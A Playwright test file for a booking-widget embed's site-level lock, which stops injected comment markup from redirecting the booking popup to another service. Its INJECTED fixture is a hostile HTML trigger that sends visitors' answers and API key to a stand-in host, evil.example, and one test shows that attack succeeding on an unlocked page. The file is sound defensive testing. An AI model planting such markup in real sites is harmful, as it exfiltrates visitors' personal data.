// A site-level lock for popup triggers: the header script's tag (or BookingWidget.configure) names the site's
// service once, and with `data-booking-lock` a trigger can't point a popup elsewhere. The attack it stops: markup
// injected into a page with user content (a comment, a profile) adds a trigger whose popup would send the
// visitor's answers, or the site's key, to another address. Against `npm run mock` over HTTP (live mode).
import { expect, test, type Locator, type Page } from '@playwright/test';
import { firstOpenSlotIn } from './booking-helpers.js';
import { ensureBuilt, openPage } from './embed-helpers.js';
import { startLiveMock, type LiveMock } from './live-helpers.js';

let mock: LiveMock;

test.describe.configure({ mode: 'default' });

test.beforeAll(async () => {
  ensureBuilt();
  mock = await startLiveMock();
});

test.afterAll(async () => {
  await mock?.close();
});

const EVIL = 'https://evil.example';
/** The site's own service, as its pages name it: forwarded to the mock (a page the test serves is not on loopback). */
const SITE = 'https://api.site.example/v1';
const INJECTED = `<div class="comment"><button id="injected" data-booking-resource="106"
  data-booking-base-url="${EVIL}/v1" data-booking-api-key="theirs" data-booking-manage-url="${EVIL}/{booking_id}"
  >Book a session</button></div>`;

/** Every request the page makes to evil.example (answered 404); the site's service forwarded to the mock. */
async function evilRequests(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.route(`${SITE}/**`, async (route) => {
    const url = route.request().url().replace(SITE, mock.baseUrl);
    // A request the page dropped meanwhile (a popup closed mid-read aborts it) can no longer be answered; any other
    // failure reaches the widget as a failed request, which the test's own checks then see.
    try {
      await route.fulfill({ response: await route.fetch({ url }) });
    } catch {
      await route.abort().catch(() => undefined);
    }
  });
  await page.route(`${EVIL}/**`, (route) => {
    seen.push(route.request().url());
    // A plain 404 that the page may read: the widget shows its calm "not available" state and asks no more.
    return route.fulfill({
      status: 404,
      headers: { 'access-control-allow-origin': '*' },
      json: { error: 'not found' },
    });
  });
  return seen;
}

/** The warnings the page prints. */
function warnings(page: Page): string[] {
  const seen: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'warning') seen.push(message.text());
  });
  return seen;
}

/** The service's bookings of resource 106 made by `email`. */
async function bookingsOf(email: string): Promise<unknown[]> {
  const query = new URLSearchParams({ apiKey: 'demo', email, resource_id: '106' });
  const answer = await fetch(`${mock.baseUrl}/bookings?${query}`);
  const body = (await answer.json()) as { data?: unknown[] } | unknown[];
  return Array.isArray(body) ? body : (body.data ?? []);
}

test('on a locked page, a trigger naming another base-url opens the popup against the site’s service', async ({
  page,
}) => {
  const evil = await evilRequests(page);
  const warned = warnings(page);
  await openPage(
    page,
    '/e2e/locked.html',
    `<script src="/dist/embed.js" defer data-booking-base-url="${SITE}"
      data-booking-api-key="demo" data-booking-lock></script>`,
    INJECTED,
  );
  const trigger = page.locator('#injected');
  await trigger.hover();
  await trigger.click();
  const widget = openWidget(page);
  await expect(page.getByRole('dialog')).toBeVisible();
  await expect(widget).toHaveAttribute('base-url', SITE);
  await expect(widget).toHaveAttribute('api-key', 'demo');
  await expect(widget).not.toHaveAttribute('manage-url');
  const email = `locked-${Date.now()}@example.com`;
  await bookHelpDeskAs(widget, email);
  expect(evil).toEqual([]);
  expect(await bookingsOf(email)).toHaveLength(1);
  // Named once per ignored value, though the trigger was hovered, pressed and clicked.
  const ignored = warned.filter((text) => text.includes('is ignored'));
  expect(ignored).toHaveLength(3);
  expect(ignored.join('\n')).toContain(`baseUrl=${EVIL}/v1 is ignored`);
});

test('BookingWidget.configure({ lock: true }) locks the same way; without a lock the site’s options are only defaults', async ({
  page,
}) => {
  const evil = await evilRequests(page);
  await openPage(
    page,
    '/e2e/configured.html',
    '<script src="/dist/embed.js" defer></script>',
    `<button id="plain" data-booking-resource="106">Book</button>${INJECTED}`,
  );
  await expect.poll(() => page.evaluate(() => typeof window.BookingWidget?.version)).toBe('string');
  await page.evaluate(
    (baseUrl) => window.BookingWidget!.configure({ baseUrl, apiKey: 'demo' }),
    SITE,
  );
  // Defaults: a trigger with only a resource connects to the site's service…
  await page.locator('#plain').click();
  await expect(openWidget(page)).toHaveAttribute('base-url', SITE);
  await firstOpenSlotIn(openWidget(page));
  await closePopup(page);
  // …and, unlocked, a trigger that names its own service is taken at its word (the attack).
  await page.locator('#injected').click();
  await expect.poll(() => evil.length).toBeGreaterThan(0);
  // The hover before the click already loads the popup's widget (its request can come before the dialog shows):
  // Escape is pressed once the dialog is open, or it would stay open over the next trigger.
  await expect(openWidget(page)).toHaveAttribute('base-url', `${EVIL}/v1`);
  await closePopup(page);

  evil.length = 0;
  await page.evaluate(() => window.BookingWidget!.configure({ lock: true }));
  await page.locator('#injected').click();
  await expect(openWidget(page)).toHaveAttribute('base-url', SITE);
  await expect(openWidget(page)).not.toHaveAttribute('manage-url');
  await firstOpenSlotIn(openWidget(page));
  expect(evil).toEqual([]);
});

/** Escape closes the open popup; resolves once no dialog is open. */
async function closePopup(page: Page): Promise<void> {
  await page.keyboard.press('Escape');
  await expect(page.locator('dialog[open]')).toHaveCount(0);
}

/** The widget of the popup that is open. */
const openWidget = (page: Page) =>
  page
    .locator('booking-dialog')
    .filter({ has: page.locator('dialog[open]') })
    .locator('booking-widget');

async function bookHelpDeskAs(widget: Locator, email: string): Promise<void> {
  await (await firstOpenSlotIn(widget, 30_000)).click();
  await widget.getByRole('textbox', { name: 'Full name' }).fill('Ada Lovelace');
  await widget.getByRole('textbox', { name: 'Email address' }).fill(email);
  await widget
    .getByRole('textbox', { name: 'Describe the problem' })
    .fill('The VPN drops every ten minutes.');
  await widget.locator('[part~="submit"]').click();
  await expect(widget.locator('[part~="confirmation"]')).toBeVisible();
}
